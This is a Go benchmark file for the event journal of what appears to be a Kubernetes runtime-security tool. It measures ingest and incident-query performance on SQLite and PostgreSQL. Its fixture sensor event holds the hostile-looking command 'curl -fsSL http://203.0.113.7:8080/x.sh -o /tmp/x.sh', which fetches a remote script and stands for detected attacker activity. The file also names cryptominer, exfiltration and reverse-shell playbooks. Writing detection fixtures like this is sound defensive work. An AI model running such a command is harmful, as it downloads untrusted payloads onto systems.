package journal_test

import (
	"context"
	"database/sql"
	"fmt"
	"path/filepath"
	"slices"
	"strconv"
	"sync/atomic"
	"testing"
	"time"

	cloudevents "github.com/cloudevents/sdk-go/v2"
	"github.com/jackc/pgx/v5"

	"parry.dev/parry/internal/events"
	"parry.dev/parry/internal/journal"
)

// realisticEvent is a sensor event as the sensor sends it: a process exec
// in a pod, with its attributes and data (about 1 KB of JSON).
func realisticEvent(tb testing.TB, key string) cloudevents.Event {
	tb.Helper()
	e, err := events.New(events.Spec{Type: events.TypeProcessExec, Source: "parry://sensor/node-7", Subject: "pod/shop/web-5d9c7b8f6-x2x4q", Key: key,
		Extensions: map[string]string{
			events.ExtNode: "node-7", events.ExtPodNamespace: "shop", events.ExtPodName: "web-5d9c7b8f6-x2x4q",
			events.ExtPodUID: "6f1c2a9e-3b7d-4e15-9a0c-8d2f4b6e1a37", events.ExtContainer: "app",
			events.ExtContainerID: "4b825dc642cb6eb9a060e54bf8d69288fbee4904a1b2c3d4e5f60718293a4b5c",
			events.ExtImage:       "registry.example.com/shop/web:1.42.0", events.ExtOwner: "Deployment/web",
			events.ExtExe: "/usr/bin/curl", events.ExtComm: "curl", events.ExtUID: "1000",
		},
		Data: map[string]any{
			"pid": 48213, "ppid": 48190, "exe": "/usr/bin/curl",
			"argv":   []string{"curl", "-fsSL", "http://203.0.113.7:8080/x.sh", "-o", "/tmp/x.sh"},
			"cwd":    "/app",
			"parent": map[string]any{"exe": "/bin/sh", "argv": []string{"/bin/sh", "-c", "curl -fsSL http://203.0.113.7:8080/x.sh -o /tmp/x.sh"}},
		}})
	if err != nil {
		tb.Fatal(err)
	}
	return e
}

// BenchmarkIngest is each store's intake, side by side: the SQLite journal
// as the broker writes it (Append, one event per call, from 16 goroutines;
// its writer group-commits them), and PostgreSQL as the journal service
// writes it (Record, batches from 4 callers). Events only: no deliveries.
func BenchmarkIngest(b *testing.B) {
	template := realisticEvent(b, "template")
	var n atomic.Int64
	next := func() journal.Record {
		e := template.Clone()
		e.SetID(strconv.FormatInt(n.Add(1), 10) + "-" + template.ID())
		r, err := journal.NewRecord("parry-system/parry", sensorSender, e, nil)
		if err != nil {
			b.Fatal(err)
		}
		return r
	}
	b.Run("sqlite-append", func(b *testing.B) {
		ctx := context.Background()
		j, err := journal.Open(ctx, filepath.Join(b.TempDir(), "j.db"))
		if err != nil {
			b.Fatal(err)
		}
		defer j.Close()
		b.SetParallelism(8) // × GOMAXPROCS goroutines
		b.ResetTimer()
		b.RunParallel(func(pb *testing.PB) {
			for pb.Next() {
				if _, err := j.Append(ctx, next()); err != nil {
					b.Error(err)
					return
				}
			}
		})
		b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
	})
	for _, size := range []int{1, 100, 500} {
		b.Run(fmt.Sprintf("postgres-record-batch-%d", size), func(b *testing.B) {
			ctx := context.Background()
			p := openPostgres(b)
			b.SetParallelism(2) // × GOMAXPROCS callers
			b.ResetTimer()
			b.RunParallel(func(pb *testing.PB) {
				batch := make([]journal.Record, 0, size)
				flush := func() {
					if len(batch) == 0 {
						return
					}
					if _, err := p.Record(ctx, batch); err != nil {
						b.Error(err)
					}
					batch = batch[:0]
				}
				for pb.Next() {
					batch = append(batch, next())
					if len(batch) == size {
						flush()
					}
				}
				flush()
			})
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "events/s")
		})
	}
}

// millionEvents is the journal the query benchmarks read: 1,000,000
// events, of which 50,000 incidents of six (the sensor event, opened,
// three steps' replies, closed) and 700,000 sensor events of no incident,
// interleaved as they would arrive. each gets them in journal order.
const (
	millionEvents  = 1_000_000
	incidentEvents = 6
	incidentEvery  = 20 // one incident per 20 events
)

func incidentID(k int) string { return fmt.Sprintf("inc-%06d", k) }

func millionJournal(b *testing.B, each func(e cloudevents.Event, incident, causation string)) {
	b.Helper()
	sensorT := realisticEvent(b, "sensor")
	steps := []string{"isolate", "snapshot", "revoke"}
	for i := range millionEvents {
		k, pos := i/incidentEvery, i%incidentEvery
		sensorID := fmt.Sprintf("sensor-%07d", i-pos)
		if pos >= incidentEvents {
			e := sensorT.Clone()
			e.SetID(fmt.Sprintf("sensor-%07d", i))
			each(e, "", "")
			continue
		}
		inc, opened := incidentID(k), fmt.Sprintf("opened-%06d", k)
		var e cloudevents.Event
		var cause string
		switch pos {
		case 0:
			e = sensorT.Clone()
			e.SetID(sensorID)
		case 1:
			e = sensorT.Clone()
			e.SetID(opened)
			e.SetType(events.TypeIncidentOpened)
			e.SetSource("parry://function/classify")
			e.SetExtension(events.ExtPlaybook, []string{"cryptominer", "exfiltration", "reverse-shell"}[k%3])
			e.SetExtension(events.ExtScore, "80")
			cause = sensorID
		case 5:
			e = cloudevents.NewEvent()
			e.SetID(fmt.Sprintf("closed-%06d", k))
			e.SetType(events.TypeIncidentClosed)
			e.SetSource("parry://cli/incident")
			_ = e.SetData(cloudevents.ApplicationJSON, events.IncidentClosed{Incident: inc, ClosedBy: "alice"})
			cause = opened
		default:
			step := steps[pos-2]
			e = cloudevents.NewEvent()
			e.SetID(fmt.Sprintf("%s-%06d", step, k))
			e.SetType(events.StepDone(step))
			e.SetSource("parry://function/" + step)
			e.SetExtension(events.ExtStep, step)
			_ = e.SetData(cloudevents.ApplicationJSON, map[string]any{"applied": []string{"NetworkPolicy/parry-isolate-" + inc}})
			cause = opened
		}
		if pos > 0 {
			e.SetExtension(events.ExtIncident, inc)
			e.SetExtension(events.ExtCausation, cause)
		}
		each(e, events.String(e, events.ExtIncident), cause)
	}
}

// fillSQLite writes the million events into a new journal file in one
// transaction, beside the journal's writer (closed meanwhile), and opens it.
func fillSQLite(b *testing.B) *journal.Journal {
	ctx := context.Background()
	path := filepath.Join(b.TempDir(), "j.db")
	j, err := journal.Open(ctx, path)
	if err != nil {
		b.Fatal(err)
	}
	j.Close()
	db, err := sql.Open("sqlite", "file:"+path+"?_pragma=journal_mode(WAL)&_pragma=synchronous(OFF)")
	if err != nil {
		b.Fatal(err)
	}
	tx, err := db.Begin()
	if err != nil {
		b.Fatal(err)
	}
	ins, err := tx.Prepare(`INSERT INTO events (id, source, type, subject, incident, causation, traceid, broker, received, body, sender)
		VALUES (?, ?, ?, ?, ?, ?, ?, 'parry-system/parry', ?, ?, ?)`)
	if err != nil {
		b.Fatal(err)
	}
	start := time.Now().Add(-time.Hour).UnixNano()
	i := int64(0)
	millionJournal(b, func(e cloudevents.Event, incident, causation string) {
		body, err := e.MarshalJSON()
		if err != nil {
			b.Fatal(err)
		}
		i++
		if _, err := ins.Exec(e.ID(), e.Source(), e.Type(), e.Subject(), nullString(incident), nullString(causation), events.TraceID(e), start+i*1000, body, sensorSender); err != nil {
			b.Fatal(err)
		}
	})
	if err := tx.Commit(); err != nil {
		b.Fatal(err)
	}
	db.Close()
	j, err = journal.Open(ctx, path)
	if err != nil {
		b.Fatal(err)
	}
	b.Cleanup(func() { j.Close() })
	used, err := journal.UsedBytes(j)
	if err != nil {
		b.Fatal(err)
	}
	b.Logf("SQLite: %d events in %d MB of pages (%d bytes each)", i, used>>20, used/i)
	return j
}

func nullString(s string) any {
	if s == "" {
		return nil
	}
	return s
}

// fillPostgres COPYs the million events into a fresh journal database.
func fillPostgres(b *testing.B) *journal.Postgres {
	ctx := context.Background()
	pool := freshPool(b)
	p, err := journal.OpenPostgres(ctx, pool)
	if err != nil {
		b.Fatal(err)
	}
	rows := make(chan []any, 1024)
	go func() {
		defer close(rows)
		start := time.Now().Add(-time.Hour)
		i := 0
		millionJournal(b, func(e cloudevents.Event, incident, causation string) {
			body, err := e.MarshalJSON()
			if err != nil {
				panic(err)
			}
			i++
			rows <- []any{journal.Identity(e.ID(), e.Source(), sensorSender), e.ID(), e.Source(), e.Type(), e.Subject(), nullString(incident), nullString(causation),
				events.TraceID(e), "parry-system/parry", sensorSender, start.Add(time.Duration(i) * time.Microsecond), body}
		})
	}()
	n, err := pool.CopyFrom(ctx, pgx.Identifier{"journal_events"},
		[]string{"ident", "id", "source", "type", "subject", "incident", "causation", "traceid", "broker", "sender", "received", "body"},
		pgx.CopyFromFunc(func() ([]any, error) {
			r, ok := <-rows
			if !ok {
				return nil, nil
			}
			return r, nil
		}))
	if err != nil || n != millionEvents {
		b.Fatalf("COPY: %d rows, %v", n, err)
	}
	for _, q := range []string{
		`UPDATE journal_volume SET events = c.n, bytes = c.bytes FROM (SELECT count(*) AS n, sum(` + journal.EventBytesSQL + `) AS bytes FROM journal_events) c WHERE shard = 0`,
		`VACUUM ANALYZE journal_events`,
	} {
		if _, err := pool.Exec(ctx, q); err != nil {
			b.Fatal(err)
		}
	}
	var table, volume int64
	if err := pool.QueryRow(ctx, `SELECT pg_total_relation_size('journal_events'), (SELECT sum(bytes) FROM journal_volume)`).Scan(&table, &volume); err != nil {
		b.Fatal(err)
	}
	b.Logf("PostgreSQL: %d events, %d MB of their own bytes, %d MB on disk with indexes (%.2fx)", n, volume>>20, table>>20, float64(table)/float64(volume))
	return p
}

// BenchmarkMillion is what on-call asks a journal of a million events:
// an incident's causal trees (`parry trace --incident`), one event's tree
// (`parry trace --event`), and the newest incidents (`parry incidents`).
func BenchmarkMillion(b *testing.B) {
	for _, store := range []struct {
		name string
		fill func(*testing.B) journal.Reader
	}{
		{"sqlite", func(b *testing.B) journal.Reader { return fillSQLite(b) }},
		{"postgres", func(b *testing.B) journal.Reader { return fillPostgres(b) }},
	} {
		b.Run(store.name, func(b *testing.B) {
			ctx := context.Background()
			r := store.fill(b)
			middle := millionEvents / incidentEvery / 2
			check := func(trees []*journal.Node) {
				if len(trees) != 1 || len(trees[0].Children) != 1 || len(trees[0].Children[0].Children) != 4 {
					b.Fatalf("incident %s: %d trees", incidentID(middle), len(trees))
				}
			}
			b.Run("incident", func(b *testing.B) {
				timed(b, func() {
					trees, err := r.Incident(ctx, incidentID(middle))
					if err != nil {
						b.Fatal(err)
					}
					check(trees)
				})
			})
			b.Run("tree", func(b *testing.B) {
				timed(b, func() {
					t, err := r.Tree(ctx, fmt.Sprintf("revoke-%06d", middle))
					if err != nil {
						b.Fatal(err)
					}
					check([]*journal.Node{t})
				})
			})
			b.Run("incidents-20", func(b *testing.B) {
				timed(b, func() {
					sums, err := r.Incidents(ctx, journal.IncidentFilter{Limit: 20})
					if err != nil || len(sums) != 20 || sums[0].ID != incidentID(millionEvents/incidentEvery-1) {
						b.Fatalf("%d incidents, %v", len(sums), err)
					}
				})
			})
			b.Run("incidents-20-closed-cryptominer", func(b *testing.B) {
				timed(b, func() {
					sums, err := r.Incidents(ctx, journal.IncidentFilter{Limit: 20, State: journal.IncidentClosed, Playbook: "cryptominer"})
					if err != nil || len(sums) != 20 {
						b.Fatalf("%d incidents, %v", len(sums), err)
					}
				})
			})
		})
	}
}

// timed runs f as the benchmark's loop and reports its median and 99th
// percentile, in milliseconds: the fill is too slow to repeat per -count,
// so the spread comes from the iterations of one fill.
func timed(b *testing.B, f func()) {
	var took []time.Duration
	for b.Loop() {
		start := time.Now()
		f()
		took = append(took, time.Since(start))
	}
	slices.Sort(took)
	ms := func(d time.Duration) float64 { return float64(d) / float64(time.Millisecond) }
	b.ReportMetric(ms(took[len(took)/2]), "p50-ms")
	b.ReportMetric(ms(took[len(took)*99/100]), "p99-ms")
}
